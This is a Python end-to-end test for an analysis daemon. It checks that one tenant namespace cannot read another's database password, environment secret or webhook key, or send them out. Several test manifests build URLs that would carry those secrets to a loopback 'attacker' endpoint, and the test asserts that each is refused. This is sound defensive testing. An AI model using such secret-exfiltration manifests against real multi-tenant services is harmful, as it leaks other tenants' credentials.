"""Two teams on one real `analysisd serve`: nothing of one reaches the other, or an attacker.

The daemon runs as a subprocess with a settings file (tokens, egress, envSecrets)
and a namespaced secrets directory. `shop` tries every cross-namespace path —
payments' directory secret, an environment secret only payments is granted,
payments' callback secret, reading and terminating payments' run — and each is
refused; a loopback "attacker" endpoint that every attempt points at receives
nothing. Egress to a loopback port outside shop's prefixes is a measurement
Error naming the rule, and a callback there is refused, naming it too.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import aiohttp
from aiohttp import web

from analysisd.outbox import CALLBACK_SECRET, CALLBACK_URL, SIGNATURE_HEADER, verify
from tests.e2e.process import COMPLETED, start_daemon

PAY_DB = 'pay-db-"&<é>-password'  # every escaped form must stay hidden too
PAY_HOOK = "payments-hook-hmac-key-0123"
SHOP_HOOK = "shop-hook-hmac-key-4567"
ENV_CRED = "env-credential-89ab"
SHOP = "shop-token-aaaa"
PAY = "payments-token-bbbb"
OTHER = "other-token-cccc"


class Endpoint:
    """A loopback HTTP server that records every request, whatever its path."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.seen: list[tuple[dict[str, str], bytes]] = []
        self.url = ""

    async def handle(self, request: web.Request) -> web.Response:
        body = await request.read()
        self.requests.append(f"{request.method} {request.path_qs} {body[:200]!r}")
        self.seen.append((dict(request.headers), body))
        return web.json_response({"v": 1.0})


@asynccontextmanager
async def endpoint() -> AsyncIterator[Endpoint]:
    point = Endpoint()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", point.handle)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    point.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    try:
        yield point
    finally:
        await runner.cleanup()


def write_secret(root: Path, namespace: str, name: str, key: str, value: str) -> None:
    folder = root / namespace / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / key).write_text(value)


def web_metric(url: str, **extra: Any) -> dict[str, Any]:
    return {
        "name": "m",
        "successCondition": "result == 1",
        "consecutiveErrorLimit": 0,
        "provider": {"web": {"url": url, "jsonPath": "{$.v}", "timeoutSeconds": 5, **extra}},
    }


def manifest(
    name: str,
    metric: dict[str, Any],
    *,
    args: list[dict[str, Any]] | None = None,
    annotations: dict[str, str] | None = None,
) -> dict[str, Any]:
    spec: dict[str, Any] = {"metrics": [metric]}
    if args:
        spec["args"] = args
    return {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "AnalysisRun",
        "metadata": {"name": name, "annotations": annotations or {}},
        "spec": spec,
    }


def secret_arg(name: str, key: str) -> list[dict[str, Any]]:
    return [{"name": "s", "valueFrom": {"secretKeyRef": {"name": name, "key": key}}}]


async def wait_run(
    session: aiohttp.ClientSession, base: str, namespace: str, name: str, token: str
) -> dict[str, Any]:
    url = f"{base}/api/v1/namespaces/{namespace}/analysisruns/{name}"
    async with asyncio.timeout(60):
        while True:
            async with session.get(url, headers=bearer(token)) as resp:
                assert resp.status == 200, await resp.text()
                run: dict[str, Any] = await resp.json()
            if (run.get("status") or {}).get("phase") in COMPLETED:
                return run
            await asyncio.sleep(0.05)


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def post_run(
    session: aiohttp.ClientSession, base: str, namespace: str, token: str, body: dict[str, Any]
) -> tuple[int, dict[str, Any]]:
    url = f"{base}/api/v1/namespaces/{namespace}/analysisruns"
    async with session.post(url, json=body, headers=bearer(token)) as resp:
        return resp.status, await resp.json()


async def test_every_cross_namespace_path_is_refused_and_the_attacker_gets_nothing(
    tmp_path: Path,
) -> None:
    secrets = tmp_path / "secrets"
    write_secret(secrets, "payments", "payments-db", "password", PAY_DB)
    write_secret(secrets, "payments", "payments-hook", "hmac-key", PAY_HOOK)
    write_secret(secrets, "shop", "shop-hook", "hmac-key", SHOP_HOOK)
    async with endpoint() as attacker, endpoint() as metrics, endpoint() as pay_hook:
        config = tmp_path / "analysisd.yaml"
        config.write_text(
            json.dumps(
                {
                    "tokens": {SHOP: ["shop"], PAY: ["payments"], OTHER: ["other"]},
                    "namespaces": {
                        "shop": {"egress": [metrics.url]},
                        "payments": {"envSecrets": True},
                    },
                    "webhookBackoffBase": 0.05,
                    "webhookBackoffMax": 0.2,
                    "webhookPollInterval": 0.05,
                }
            )
        )
        log = tmp_path / "daemon.log"
        env = {"ANALYSISD_SECRET_ENVCRED_TOKEN": ENV_CRED}
        daemon = await start_daemon(
            f"sqlite:///{tmp_path / 'a.db'}", secrets, log, config=config, env=env
        )
        base = daemon.base
        try:
            async with aiohttp.ClientSession() as s:
                # payments' own run, with its own directory and environment secrets: admitted.
                pay_run = manifest(
                    "pay-run",
                    web_metric(
                        f"{metrics.url}/pay?db={{{{args.s}}}}",
                        headers=[{"key": "X-Env", "value": "{{args.e}}"}],
                    ),
                    args=[
                        *secret_arg("payments-db", "password"),
                        {
                            "name": "e",
                            "valueFrom": {"secretKeyRef": {"name": "envcred", "key": "token"}},
                        },
                    ],
                    annotations={
                        CALLBACK_URL: pay_hook.url + "/hook",
                        CALLBACK_SECRET: "payments-hook",
                    },
                )
                # Keeps running until terminated.
                pay_run["spec"]["metrics"][0].update(count=1000, interval="200ms")
                status, body = await post_run(s, base, "payments", PAY, pay_run)
                assert status == 201, body

                refusals: dict[str, dict[str, Any]] = {}
                # 1. payments' directory secret, sent to the attacker.
                status, refusals["dir"] = await post_run(
                    s,
                    base,
                    "shop",
                    SHOP,
                    manifest(
                        "steal-dir",
                        web_metric(f"{attacker.url}/x?s={{{{args.s}}}}"),
                        args=secret_arg("payments-db", "password"),
                    ),
                )
                assert status == 400, refusals["dir"]
                # The same words for a secret nobody has: existence elsewhere is not told.
                status, absent = await post_run(
                    s,
                    base,
                    "shop",
                    SHOP,
                    manifest(
                        "steal-none",
                        web_metric(f"{attacker.url}/x?s={{{{args.s}}}}"),
                        args=secret_arg("nobody-has-this", "password"),
                    ),
                )
                assert status == 400
                assert json.dumps(absent).replace("nobody-has-this", "payments-db") == json.dumps(
                    refusals["dir"]
                ).replace("steal-none", "steal-dir")
                # 2. An environment secret: granted to payments, not to shop.
                status, refusals["env"] = await post_run(
                    s,
                    base,
                    "shop",
                    SHOP,
                    manifest(
                        "steal-env",
                        web_metric(
                            metrics.url + "/ok", headers=[{"key": "X", "value": "{{args.s}}"}]
                        ),
                        args=secret_arg("envcred", "token"),
                    ),
                )
                assert status == 400, refusals["env"]
                # 3. payments' callback secret, to sign shop's events.
                status, refusals["callback"] = await post_run(
                    s,
                    base,
                    "shop",
                    SHOP,
                    manifest(
                        "steal-hook",
                        web_metric(metrics.url + "/ok"),
                        annotations={
                            CALLBACK_URL: attacker.url + "/hook",
                            CALLBACK_SECRET: "payments-hook",
                        },
                    ),
                )
                assert status == 400, refusals["callback"]
                text = json.dumps(refusals)
                assert "spec.args[0].valueFrom.secretKeyRef" in text
                assert 'metadata.annotations[\\"analysisd.io/callback-secret\\"]' in text
                assert "a run reads only the secrets of namespace 'shop'" in text
                # 4. Reading and terminating payments' run with shop's token.
                pay_url = f"{base}/api/v1/namespaces/payments/analysisruns"
                for method, url in (
                    ("GET", f"{pay_url}/pay-run"),
                    ("GET", pay_url),
                    ("GET", f"{pay_url}/pay-run/measurements"),
                    ("GET", f"{pay_url}/pay-run/deliveries"),
                    ("GET", f"{pay_url}/pay-run/events"),
                    ("POST", f"{pay_url}/pay-run/terminate"),
                    ("DELETE", f"{pay_url}/pay-run"),
                ):
                    async with s.request(method, url, headers=bearer(SHOP)) as resp:
                        assert resp.status == 403, (method, url, resp.status)
                async with s.get(f"{pay_url}/pay-run", headers=bearer(PAY)) as resp:
                    assert (await resp.json())["status"]["phase"] == "Running"

                # 5. Egress: shop may reach its metrics address only.
                status, body = await post_run(
                    s, base, "shop", SHOP, manifest("egress", web_metric(attacker.url + "/probe"))
                )
                assert status == 201, body
                run = await wait_run(s, base, "shop", "egress", SHOP)
                measurement = run["status"]["metricResults"][0]["measurements"][-1]
                assert measurement["phase"] == "Error"
                assert "egress refused for namespace 'shop'" in measurement["message"]
                assert f"(egress: {metrics.url})" in measurement["message"]
                # ... and a callback there (signed with shop's own key) is refused, naming it.
                status, body = await post_run(
                    s,
                    base,
                    "shop",
                    SHOP,
                    manifest(
                        "hooked",
                        web_metric(metrics.url + "/ok"),
                        annotations={
                            CALLBACK_URL: attacker.url + "/hook?token=t0ps3cret",
                            CALLBACK_SECRET: "shop-hook",
                        },
                    ),
                )
                assert status == 201, body
                assert (await wait_run(s, base, "shop", "hooked", SHOP))["status"][
                    "phase"
                ] == "Successful"
                deliveries_url = f"{base}/api/v1/namespaces/shop/analysisruns/hooked/deliveries"
                async with asyncio.timeout(30):
                    while True:
                        async with s.get(deliveries_url, headers=bearer(SHOP)) as resp:
                            items = (await resp.json())["items"]
                        if items and all(i["attempts"] >= 1 for i in items):
                            break
                        await asyncio.sleep(0.05)
                assert all("egress refused for namespace 'shop'" in i["lastError"] for i in items)
                assert all(i["target"] == attacker.url + "/hook?token=*****" for i in items)
                # 6. The daemon's own API is out of reach of a namespace with no egress list.
                status, body = await post_run(
                    s, base, "other", OTHER, manifest("self", web_metric(f"{base}/metrics"))
                )
                assert status == 201, body
                run = await wait_run(s, base, "other", "self", OTHER)
                message = run["status"]["metricResults"][0]["measurements"][-1]["message"]
                assert "daemon's own listen address" in message

                # payments' run measured with its secrets, its events signed with its key.
                async with asyncio.timeout(30):
                    while not pay_hook.requests or not metrics.requests:  # noqa: ASYNC110
                        await asyncio.sleep(0.05)
                async with s.post(f"{pay_url}/pay-run/terminate", headers=bearer(PAY)) as resp:
                    assert resp.status in (200, 202), await resp.text()
                async with s.get(f"{pay_url}/pay-run", headers=bearer(PAY)) as resp:
                    pay_text = await resp.text()
        finally:
            assert await daemon.terminate() == 0
        assert attacker.requests == []
        # payments did get its own secrets, and its events were signed with its own key.
        assert any("/pay?db=" in r for r in metrics.requests)
        assert any(headers.get("X-Env") == ENV_CRED for headers, _ in metrics.seen)
        assert pay_hook.seen
        assert all(verify(body, PAY_HOOK, h[SIGNATURE_HEADER]) for h, body in pay_hook.seen)
        logged = log.read_text()
        for secret in (PAY_DB, PAY_HOOK, SHOP_HOOK, ENV_CRED):
            for text in (logged, pay_text, json.dumps(refusals)):
                assert secret not in text
        assert json.dumps(PAY_DB)[1:-1] not in pay_text + logged
